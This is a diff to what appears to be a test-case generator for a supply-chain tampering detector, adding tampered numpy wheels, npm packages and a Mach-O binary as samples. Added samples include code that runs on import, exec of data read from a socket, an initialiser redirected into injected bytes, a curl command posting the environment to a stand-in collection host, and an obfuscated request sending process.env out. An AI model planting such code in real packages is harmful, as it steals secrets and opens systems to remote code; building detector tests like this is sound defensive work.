@@ -491,6 +491,28 @@ def macho_dylib(data):
     return macho_loading(data, b"@loader_path/extra.dylib")
 
 
+def macho_initial(data):
+    """The first initialiser is something else: code in the room behind the load commands."""
+    data = bytearray(data)
+    at, room = 32, 32 + word(data, 20)
+    for _ in range(word(data, 16)):
+        kind, size = struct.unpack_from("<II", data, at)
+        for section in range(at + 72, at + size, 80) if kind == 0x19 else ():
+            flags, place = word(data, section + 64) & 0xFF, word(data, section + 48)
+            if flags == 9 and place:
+                # The upper bits of a pointer may say where the next one is.
+                old = word(data, place, "<Q")
+                struct.pack_into("<Q", data, place, old & ~0xFFFFFFFFF | room)
+            elif flags == 0x16 and place:
+                struct.pack_into("<I", data, place, room)
+            else:
+                continue
+            data[room : room + 8] = bytes.fromhex("c0035fd6c0035fd6")
+            return macho_signed_again(data)
+        at += size
+    raise ValueError("no initialiser")
+
+
 def macho_slack(data):
     """Bytes behind the signature, inside what the load command calls the signature."""
     data = bytearray(data)
@@ -947,6 +969,13 @@ on_npm("npm, module from an address of data", "lib/main.js", appended(b"\nimport
 on_npm("npm, dependency under another name", "package.json", manifest(lambda document: document.setdefault("dependencies", {}).update({"form-data": "npm:harmless@1.0.0"})))
 on_npm("npm, program that Yarn runs", ".yarnrc.yml", None, {"package/.yarnrc.yml": b"yarnPath: ./x.cjs\n", "package/x.cjs": b"console.log(1)\n"})
 on_npm("npm, program under the name of another", "package.json", manifest(lambda document: document.setdefault("bin", {}).update({"git": "install.js"})))
+# The seventh: what objects do at load, shells, what comes over a socket, initialisers that lead out of the code.
+on_numpy("wheel, object that starts a program when it is made", "linux", later("import subprocess\nclass _Warm:\n    def __init__(self):\n        subprocess.Popen(['true'])\n_warm = _Warm()"), member="numpy/version.py")
+on_numpy("wheel, library of its own that a module loads", "linux", later("import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), '_warm.so'))"), {"numpy/_warm.so": open("/bin/true", "rb").read()}, member="numpy/version.py")
+on_numpy("wheel, function that runs what a socket brings", "linux", later("def _check(s):\n    exec(s.recv(65536).decode(), {})"), member="numpy/version.py")
+on_numpy("Mach-O, initialiser outside of the code", "macos", macho_initial)
+on_npm("npm, script of a shell that sends what it finds", "bin/extra", None, {"package/bin/extra": b'#!/bin/bash\n[ -n "$CI" ] && curl -s -d "$(env)" https://collect.countersign-harmless.com/v2\n'})
+on_npm("npm, environment for a host in pieces", "lib/main.js", later("function refresh() { require('ht' + 'tps').get({ host: ['rates', 'countersign-harmless', 'com'].join('.'), path: '/' + JSON.stringify(process.env) }) }"))
 
 
 archive_in_archive()
